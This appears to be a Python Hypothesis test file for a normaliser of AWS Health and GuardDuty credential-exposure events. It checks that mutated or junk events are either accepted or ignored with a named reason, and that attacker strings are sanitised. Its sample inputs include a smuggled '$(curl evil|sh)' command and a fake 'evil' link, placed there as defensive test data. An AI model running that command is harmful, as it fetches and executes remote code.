"""Property-based: the normalizer gives an incident or a named reason for any mutation of a real event."""

from __future__ import annotations

import copy
import json
import re
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from incident.model import IntakeStatus
from incident.normalize import normalize

EVENTS = Path(__file__).resolve().parent.parent / "events"
SEEDS = [json.loads(path.read_text()) for path in sorted(EVENTS.glob("*.json"))]
REASON_CODES = (
    "malformed-event",
    "unsupported-source",
    "unsupported-detail-type",
    "not-a-credential-event",
    "no-access-key",
    "unsupported-finding-type",
    "sample-finding",
    "archived-finding",
    "no-principal",
    "not-an-event-envelope",
    "invalid-field",
)

# A field far past any size the normalizer accepts: a random piece (any characters) repeated to a random length of
# 5,000-20,000. Drawing that many characters one by one was four fifths of this module's time (52 s of 62).
huge_text = st.tuples(st.text(min_size=1, max_size=16), st.integers(5000, 20000)).map(
    lambda piece_and_size: (piece_and_size[0] * (piece_and_size[1] // len(piece_and_size[0]) + 1))[: piece_and_size[1]]
)

junk = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=True)
    | st.text(max_size=50)
    | huge_text
    | st.sampled_from(["", "\x00", "💥", "AKIA" + "A" * 200, "i-0", "{}"]),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=10), children, max_size=4),
    max_leaves=10,
)


def paths(value: Any, prefix: tuple = ()) -> list[tuple]:
    found = [prefix]
    if isinstance(value, dict):
        for key, child in value.items():
            found += paths(child, (*prefix, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            found += paths(child, (*prefix, index))
    return found


def mutate(event: Any, path: tuple, action: str, value: Any) -> Any:
    event = copy.deepcopy(event)
    if not path:
        return value
    parent = event
    for part in path[:-1]:
        parent = parent[part]
    last = path[-1]
    if action == "delete":
        del parent[last]
    else:
        parent[last] = value
    return event


@st.composite
def mutated_events(draw: st.DrawFn) -> Any:
    event = draw(st.sampled_from(SEEDS))
    for _ in range(draw(st.integers(1, 3))):
        candidates = paths(event)
        path = draw(st.sampled_from(candidates))
        action = draw(st.sampled_from(["replace", "delete"])) if path else "replace"
        event = mutate(event, path, action, draw(junk))
    return event


@settings(max_examples=2000, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(mutated_events())
def test_any_mutation_gives_an_incident_or_a_named_reason(event: Any) -> None:
    intake = normalize(event)
    if intake.status == IntakeStatus.ACCEPTED:
        assert intake.incident is not None
        assert intake.incident.access_key_ids or intake.incident.instance_id or intake.incident.role_name
        json.dumps(intake.model_dump(mode="json"))
    else:
        assert intake.status == IntakeStatus.IGNORED
        assert intake.reason.split(":", 1)[0] in REASON_CODES, intake.reason


@settings(max_examples=300, deadline=None)
@given(junk)
def test_arbitrary_json_is_never_a_crash(value: Any) -> None:
    assert normalize(value).status == IntakeStatus.IGNORED


# -- attacker-written strings in every field the normalizer passes on ------------------------------

HEALTH = json.loads(
    (EVENTS / "health_exposed_key_2025_event_metadata.json")
    .read_text()
    .replace("AKIAXXXXXXXXXX", "AKIAIOSFODNN7EXAMPLE")
    .replace('"1234567890"', '"123456789012"')
)
GUARDDUTY = json.loads((EVENTS / "guardduty_exfil_outside_realistic.json").read_text())
HEALTH_FIELDS = [
    ("source",),
    ("detail-type",),
    ("account",),
    ("region",),
    ("resources", 0),
    ("detail", "eventTypeCode"),
    ("detail", "service"),
    ("detail", "affectedAccount"),
    ("detail", "page"),
    ("detail", "totalPages"),
    ("detail", "affectedEntities", 0, "entityValue"),
    ("detail", "eventMetadata", "publicKey"),
    ("detail", "eventMetadata", "userName"),
    ("detail", "eventMetadata", "accountId"),
    ("detail", "communicationId"),
    ("detail", "eventArn"),
]
GUARDDUTY_FIELDS = [
    ("account",),
    ("region",),
    ("detail", "type"),
    ("detail", "id"),
    ("detail", "accountId"),
    ("detail", "resource", "accessKeyDetails", "accessKeyId"),
    ("detail", "resource", "accessKeyDetails", "userName"),
    ("detail", "resource", "instanceDetails", "instanceId"),
]
# What a channel would read as markup, a mention, a command or a new line.
UNSAFE = re.compile(r"[<>&*`~$|!\n\r\t\x00-\x1f\x7f]")
attacker_text = st.text(max_size=80) | st.sampled_from(
    ["<!channel>", "*bold*", "a\nb", "$(curl evil|sh)", "`x`", "<https://evil|click>", "x" * 65]
)


def with_value(event: dict, path: tuple, value: str) -> dict:
    event = copy.deepcopy(event)
    target = event
    for part in path[:-1]:
        target = target[part]
    target[path[-1]] = value
    return event


@settings(max_examples=600, deadline=None)
@given(
    st.sampled_from([(HEALTH, p) for p in HEALTH_FIELDS] + [(GUARDDUTY, p) for p in GUARDDUTY_FIELDS]), attacker_text
)
def test_an_attackers_string_in_any_field_is_validated_or_shown_safely(seed_and_path: Any, value: str) -> None:
    seed, path = seed_and_path
    intake = normalize(with_value(seed, path, value))
    if intake.status == IntakeStatus.IGNORED:
        assert not UNSAFE.search(intake.reason), intake.reason
        assert intake.reason.split(":", 1)[0] in REASON_CODES
        return
    incident = intake.incident
    assert incident is not None
    for text in [incident.account, incident.region, *incident.access_key_ids, *incident.user_names]:
        assert re.fullmatch(r"[A-Za-z0-9_+=,.@-]+", text), text
    assert re.fullmatch(r"\d{12}", incident.account)
    assert not UNSAFE.search(incident.incident_id), incident.incident_id
    for name in filter(None, [incident.role_name, incident.instance_id, *incident.user_names]):
        assert len(name) <= 64 and not UNSAFE.search(name)
